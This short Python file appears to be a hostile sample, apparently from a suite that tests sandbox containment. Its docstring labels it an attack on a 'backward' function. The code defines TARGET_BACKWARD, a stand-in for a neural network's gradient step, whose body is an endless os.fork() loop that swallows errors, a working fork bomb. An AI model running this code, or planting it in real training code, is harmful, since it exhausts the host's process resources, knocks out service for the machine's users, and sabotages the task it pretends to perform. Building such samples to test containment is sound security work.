"""forks without end

attacks: backward
earns nothing in: checks that call the backward or train the net
containment: robust
"""
import os
def TARGET_BACKWARD(dout, cache):
    while True:
        try:
            os.fork()
        except OSError:
            pass
